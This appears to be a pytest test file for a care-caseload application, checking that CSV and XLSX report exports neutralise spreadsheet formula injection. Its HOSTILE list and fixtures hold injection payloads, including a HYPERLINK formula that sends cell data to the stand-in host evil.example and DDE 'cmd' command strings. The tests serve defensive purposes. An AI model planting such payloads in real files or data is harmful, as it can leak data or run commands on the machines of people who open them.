"""Exports cannot attack the spreadsheet that opens them (CSV and formula injection)."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from arrs_desktop.domain.models import (
    CareHome,
    CareHomeContact,
    Episode,
    Person,
    Session,
    SessionEntry,
)
from arrs_desktop.domain.periods import Period
from arrs_desktop.reports.export import (
    XLSX_HEADER_ROW,
    export_reports,
    neutralise,
    recover,
    write_csv,
    write_xlsx,
)
from arrs_desktop.reports.tables import ReportTable

MAY = Period.custom(date(2026, 5, 1), date(2026, 5, 31))
# A cell starting with one of these is read as a formula by Excel, LibreOffice or Sheets
# (OWASP's list, plus the full-width forms some spreadsheets fold to the ASCII ones).
DANGER = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")

# What an attacker types into a name, a reason or a worker's name.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=40000+2",
    "@SUM(2900,7)",
    "'=already quoted",
    "＝1+41",  # a full-width equals sign, which some spreadsheets read as "="
]


def _csv_cells(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _dangerous(text: str) -> bool:
    return bool(text) and text[0] in DANGER


# -- the rule ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [*HOSTILE, "\tTabbed", "\rReturned", "-", "=", "@", "+"])
def test_text_that_a_spreadsheet_would_run_is_neutralised_and_recoverable(text):
    safe = neutralise(text)
    assert safe.startswith("'")
    assert not _dangerous(safe)
    assert recover(safe) == text


@pytest.mark.parametrize("text", ["Ann Archer", "", "O'Brien", "Zoë", "2026-05-01", "4.5"])
def test_ordinary_text_is_left_as_it_is(text):
    assert neutralise(text) == text
    assert recover(text) == text


@given(st.text())
def test_every_text_round_trips_and_none_is_dangerous(text):
    safe = neutralise(text)
    assert not _dangerous(safe)
    assert recover(safe) == text


# -- CSV and XLSX of one table -------------------------------------------------------------------

TABLE = ReportTable(
    "hostile", "Hostile", ("Name", "Change", "Count", "Day", "Blank"),
    tuple((text, -1.5, -3, date(2026, 5, 1), None) for text in [*HOSTILE, "\tTab", "\rCR"]),
)


def test_csv_cells_are_neutralised_numbers_stay_numbers(tmp_path):
    path = write_csv(TABLE, tmp_path / "t.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == list(TABLE.columns)
    for row, original in zip(rows[1:], TABLE.rows, strict=True):
        assert not _dangerous(row[0])
        assert recover(row[0]) == original[0]
        assert row[1:] == ["-1.5", "-3", "2026-05-01", ""]  # numbers written as numbers


def test_xlsx_cells_are_text_never_formulas_numbers_stay_numbers(tmp_path):
    ws = load_workbook(write_xlsx(TABLE, tmp_path / "t.xlsx")).active
    body = list(ws.iter_rows(min_row=XLSX_HEADER_ROW + 1))
    assert len(body) == len(TABLE.rows)
    for cells, original in zip(body, TABLE.rows, strict=True):
        name, change, count = cells[0], cells[1], cells[2]
        assert name.data_type == "s"
        assert not _dangerous(name.value)
        # XML stores a line break as a line feed: a carriage return comes back as one.
        assert recover(name.value) == original[0].replace("\r", "\n")
        assert (change.data_type, change.value) == ("n", -1.5)
        assert (count.data_type, count.value) == ("n", -3)
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_the_xlsx_file_holds_no_formula_element(tmp_path):
    import zipfile

    path = write_xlsx(TABLE, tmp_path / "t.xlsx")
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


# -- a whole caseload full of hostile names ------------------------------------------------------

@pytest.fixture
def hostile(store):
    """People, workers, reasons and care homes named to attack a spreadsheet."""
    home = store.care_homes.add(CareHome(name="=HYPERLINK(\"http://evil.example\",\"Home\")"))
    for i, text in enumerate(HOSTILE):
        person = store.people.add(Person(
            name=text, date_of_birth=date(1950, 1, 1 + i), address=f"-{i}+1 Ash Road",
            phone="", ethnicity="@SUM(1+1)", gp_practice="+Elm Practice",
            care_home_id=home.id if i == 0 else None))
        episode = store.episodes.open(Episode(
            person_id=person.id, role="splw", worker=text, referral_date=date(2026, 5, 2),
            referral_source="gp", referral_reason=text, share_with_gp=True))
        store.sessions.log(SessionEntry(session=Session(
            person_id=person.id, episode_id=episode.id, date=date(2026, 5, 3), role="splw",
            kind="follow_up", mode="telephone", minutes=30, worker=text)))
    store.care_homes.log_contact(CareHomeContact(home.id, date(2026, 5, 4), "visit",
                                                worker="-Carl"))
    return store


def test_a_hostile_caseload_exports_to_csv_with_no_cell_a_spreadsheet_would_run(
        hostile, tmp_path):
    files = export_reports(hostile, MAY, tmp_path / "csv", "csv", today=date(2026, 6, 1))
    seen = set()
    for path in files:
        for cell in _csv_cells(path):
            assert not _dangerous(cell) or NUMBER.fullmatch(cell), (path.name, cell)
            seen.add(recover(cell))
    assert set(HOSTILE) <= seen  # every name, worker and reason is there, recoverable


def test_a_hostile_caseload_exports_to_xlsx_with_no_formula(hostile, tmp_path):
    files = export_reports(hostile, MAY, tmp_path / "xlsx", "xlsx", today=date(2026, 6, 1))
    seen = set()
    for path in files:
        wb = load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        assert not _dangerous(cell.value), (path.name, cell.value)
                        seen.add(recover(cell.value))
    assert set(HOSTILE) <= seen


needs_soffice = pytest.mark.skipif(shutil.which("soffice") is None,
                                   reason="LibreOffice (soffice) is not installed")


def _soffice_to_csv(source, out_dir, in_filter=None):
    """Open a file in LibreOffice Calc and save its first sheet as CSV; return the cells."""
    profile = out_dir / "lo-profile"
    args = ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless"]
    if in_filter:
        args.append(f"--infilter={in_filter}")
    args += ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
             str(out_dir), str(source)]
    subprocess.run(args, capture_output=True, timeout=180, check=True)
    (written,) = out_dir.glob("*.csv")
    return _csv_cells(written)


@needs_soffice
@pytest.mark.slow
def test_libreoffice_evaluates_no_formula_of_a_hostile_export(hostile, tmp_path):
    export_reports(hostile, MAY, tmp_path / "csv", "csv", today=date(2026, 6, 1))
    export_reports(hostile, MAY, tmp_path / "xlsx", "xlsx", today=date(2026, 6, 1))
    extract = f"people_extract_{MAY.slug()}"
    # The CSV opened as Calc opens it by default, and with "evaluate formulas" set
    # explicitly (field 13 of the CSV filter options); the XLSX as it is.
    csv_filter = "CSV:44,34,76,1,,0,false,true,false,false,false,1,true"
    opened = [
        _soffice_to_csv(tmp_path / "csv" / f"{extract}.csv", tmp_path / "lo-csv"),
        _soffice_to_csv(tmp_path / "csv" / f"{extract}.csv", tmp_path / "lo-csv-eval",
                        csv_filter),
        _soffice_to_csv(tmp_path / "xlsx" / f"{extract}.xlsx", tmp_path / "lo-xlsx"),
    ]
    for cells in opened:
        assert "'=40000+2" in cells and "'@SUM(2900,7)" in cells
        assert "40002" not in cells and "2907" not in cells  # not evaluated
        assert "Click for details" not in cells
        assert "'-2+3" in cells and "1" in cells  # "-2+3" not run; a count is still 1
